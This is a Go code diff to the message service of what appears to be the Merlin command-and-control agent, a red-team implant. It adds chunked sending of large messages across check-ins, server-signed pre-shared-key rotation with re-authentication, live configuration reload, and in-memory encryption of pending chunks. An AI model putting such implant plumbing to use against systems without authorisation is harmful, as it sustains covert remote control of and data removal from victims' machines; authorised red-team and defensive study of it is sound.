@@ -24,6 +24,8 @@ package message
 import (
 	// Standard
 	"fmt"
+	"strings"
+	"sync"
 
 	// 3rd Party
 	"github.com/google/uuid"
@@ -34,8 +36,14 @@ import (
 
 	// Internal
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/config"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
+	"github.com/Ne0nd0g/merlin-agent/v2/reauth"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/client"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/job"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/chunk"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/psk"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/reload"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/p2p"
 )
 
@@ -53,6 +61,12 @@ var memoryService *Service
 // out is a channel of outgoing Base messages for the agent to send back to the server
 var out = make(chan messages.Base, 100)
 
+// pending is an ordered list of message chunks that still need to be sent, one per check-in, to the server
+var pending []messages.Base
+
+// pendingLock protects the pending chunks from concurrent access
+var pendingLock sync.Mutex
+
 // NewMessageService is the factory to create a new service for handling base messages
 func NewMessageService(agent uuid.UUID) *Service {
 	if memoryService == nil {
@@ -69,6 +83,12 @@ func NewMessageService(agent uuid.UUID) *Service {
 // Check does not block but looks to see if there are any jobs or delegates that need to be returned to the Merlin server
 func (s *Service) Check() (msg messages.Base) {
 	cli.Message(cli.DEBUG, "services/message.Check(): entering into function")
+	// Finish sending a chunked message before anything else
+	if next, ok := s.next(); ok {
+		cli.Message(cli.DEBUG, fmt.Sprintf("services/message.Check(): leaving function with chunk %+v", next.Payload))
+		return next
+	}
+
 	msg.ID = s.Agent
 	// Check to see if there are any Jobs to be returned to the Merlin server
 	returnJobs := s.JobService.Check()
@@ -84,6 +104,7 @@ func (s *Service) Check() (msg messages.Base) {
 	if len(delegates) > 0 {
 		msg.Delegates = delegates
 	}
+	msg = s.split(msg)
 	cli.Message(cli.DEBUG, fmt.Sprintf("services/message.Check(): leaving function with %+v", msg))
 	return
 }
@@ -91,7 +112,12 @@ func (s *Service) Check() (msg messages.Base) {
 // Get blocks until there is a return base message to send back to the Merlin server
 func (s *Service) Get() (msg messages.Base) {
 	cli.Message(cli.DEBUG, "services/message.Get(): entering into function")
-	msg = <-out
+	// Finish sending a chunked message before anything else
+	if next, ok := s.next(); ok {
+		cli.Message(cli.DEBUG, fmt.Sprintf("services/message.Get(): leaving function with chunk %+v", next.Payload))
+		return next
+	}
+	msg = s.split(<-out)
 	cli.Message(cli.DEBUG, fmt.Sprintf("services/message.Get(): leaving function with %+v", msg))
 	return
 }
@@ -150,6 +176,14 @@ func (s *Service) Handle(msg messages.Base) (err error) {
 			s.JobService.AddResult(s.Agent, "", err.Error())
 			return
 		}
+	case psk.PSK:
+		err = s.rotate(msg)
+		if err != nil {
+			s.JobService.AddResult(s.Agent, "", err.Error())
+			return
+		}
+	case reload.CONFIG:
+		s.reload(msg)
 	case messages.CHECKIN:
 		// Used when the Agent needs to force a checkin with the server by creating and sending a Checkin message
 		out <- msg
@@ -160,16 +194,158 @@ func (s *Service) Handle(msg messages.Base) (err error) {
 
 	// If there are any Delegate messages, send them to the Handler
 	if len(msg.Delegates) > 0 {
-		// Use a go routine so that P2P functions don't block the Agent from continuing
-		go s.P2PService.Handle(msg.Delegates)
+		// Delegate messages are queued for each Link so that P2P functions don't block the Agent from continuing
+		s.P2PService.Handle(msg.Delegates)
 	}
 	return
 }
 
+// rotate verifies the server-signed PSK rotation, replaces the Client's PSK, and re-authenticates with the new PSK.
+// The previous PSK is restored if the Agent can't authenticate with the new one
+func (s *Service) rotate(msg messages.Base) error {
+	rotation, ok := msg.Payload.(psk.Rotation)
+	if !ok {
+		return fmt.Errorf("services/message.rotate(): expected psk.Rotation but received %T", msg.Payload)
+	}
+	err := psk.Verify(s.Agent, rotation)
+	if err != nil {
+		return err
+	}
+	c := s.ClientService.Get()
+	previous := config.Get("psk")
+	err = c.Set("psk", rotation.PSK)
+	if err != nil {
+		return fmt.Errorf("services/message.rotate(): there was an error replacing the PSK: %s", err)
+	}
+	cli.Message(cli.NOTE, fmt.Sprintf("Replaced the PSK with rotation %d, re-authenticating", rotation.Serial))
+	err = s.ClientService.Authenticate(reauth.Message(s.Agent))
+	if err != nil {
+		// Go back to the previous PSK so that the Agent doesn't keep a key the server didn't accept
+		errRestore := c.Set("psk", previous)
+		if errRestore == nil {
+			errRestore = s.ClientService.Authenticate(reauth.Message(s.Agent))
+		}
+		if errRestore != nil {
+			cli.Message(cli.WARN, fmt.Sprintf("services/message.rotate(): there was an error restoring the previous PSK: %s", errRestore))
+		}
+		return fmt.Errorf("services/message.rotate(): there was an error re-authenticating with the new PSK: %s", err)
+	}
+	// Clients built later, such as when the Agent switches transports, use the rotated PSK
+	config.Set("psk", rotation.PSK)
+	psk.Commit(rotation)
+	reauth.Reset()
+	return nil
+}
+
+// reload applies the server's partial configuration to the client and the Agent, or none of it if any step fails, and
+// returns the acknowledgement to the server on the next check-in
+func (s *Service) reload(msg messages.Base) {
+	c, ok := msg.Payload.(reload.Config)
+	ack := reload.Ack{Serial: c.Serial}
+	if !ok {
+		ack.Error = fmt.Sprintf("services/message.reload(): expected reload.Config but received %T", msg.Payload)
+	} else if err := c.Check(); err != nil {
+		ack.Error = err.Error()
+	} else if err = s.JobService.Reconfigure(c); err != nil {
+		ack.Error = err.Error()
+	} else {
+		c.Commit()
+		ack.Applied = c.Settings()
+		cli.Message(cli.NOTE, fmt.Sprintf("Applied configuration %d from the server: %v", c.Serial, ack.Applied))
+	}
+	if ack.Error != "" {
+		cli.Message(cli.WARN, ack.Error)
+	}
+
+	reply := messages.Base{ID: s.Agent, Type: reload.CONFIG, Payload: ack}
+	if s.ClientService.Synchronous() {
+		out <- reply
+		return
+	}
+	pendingLock.Lock()
+	pending = append(pending, reply)
+	pendingLock.Unlock()
+}
+
 // Store adds a Base message to the out channel to be sent back to the Merlin server
 // Used when there is an error sending a message, and it needs to be preserved
+// A message chunk is put back at the front of the pending chunks so that the chunks stay in order
 func (s *Service) Store(msg messages.Base) {
 	cli.Message(cli.DEBUG, fmt.Sprintf("services/messages.Store(): Entering into function with: %+v", msg))
 	defer cli.Message(cli.DEBUG, "services/messages.Store(): Leaving function...")
+	if msg.Type == chunk.CHUNK {
+		pendingLock.Lock()
+		pending = append([]messages.Base{sealChunk(msg)}, pending...)
+		pendingLock.Unlock()
+		return
+	}
 	out <- msg
 }
+
+// next removes and returns the next pending message chunk, if there is one
+func (s *Service) next() (msg messages.Base, ok bool) {
+	pendingLock.Lock()
+	defer pendingLock.Unlock()
+	for len(pending) > 0 {
+		msg = pending[0]
+		pending = pending[1:]
+		var err error
+		msg, err = openChunk(msg)
+		if err == nil {
+			return msg, true
+		}
+		cli.Message(cli.WARN, fmt.Sprintf("services/message.next(): dropping message chunk: %s", err))
+	}
+	return
+}
+
+// sealChunk encrypts the data of a pending message chunk in memory until it is sent
+func sealChunk(msg messages.Base) messages.Base {
+	if c, ok := msg.Payload.(chunk.Chunk); ok {
+		c.Data = heap.Seal(c.Data)
+		msg.Payload = c
+	}
+	return msg
+}
+
+// openChunk decrypts the data of a pending message chunk returned by sealChunk
+func openChunk(msg messages.Base) (messages.Base, error) {
+	c, ok := msg.Payload.(chunk.Chunk)
+	if !ok {
+		return msg, nil
+	}
+	data, err := heap.Open(c.Data)
+	if err != nil {
+		return msg, err
+	}
+	c.Data = data
+	msg.Payload = c
+	return msg, nil
+}
+
+// encoding returns the name of the transform that encodes Base messages, the last one in the Agent's first transformer
+// chain, which the message chunks are encoded with
+func encoding() string {
+	chain := strings.Split(config.Get("transforms"), ";")[0]
+	transforms := strings.Split(chain, ",")
+	return strings.ToLower(strings.TrimSpace(transforms[len(transforms)-1]))
+}
+
+// split breaks the Base message into chunks if it is larger than the configured chunk size.
+// The first chunk is returned and the rest are held to be sent, in order, on the following check-ins
+func (s *Service) split(msg messages.Base) messages.Base {
+	chunks, err := chunk.Split(msg, encoding())
+	if err != nil {
+		cli.Message(cli.WARN, fmt.Sprintf("services/message.split(): sending the message without chunking: %s", err))
+		return msg
+	}
+	if len(chunks) > 1 {
+		cli.Message(cli.NOTE, fmt.Sprintf("Split %s message into %d chunks", msg.Type, len(chunks)))
+		pendingLock.Lock()
+		for _, c := range chunks[1:] {
+			pending = append(pending, sealChunk(c))
+		}
+		pendingLock.Unlock()
+	}
+	return chunks[0]
+}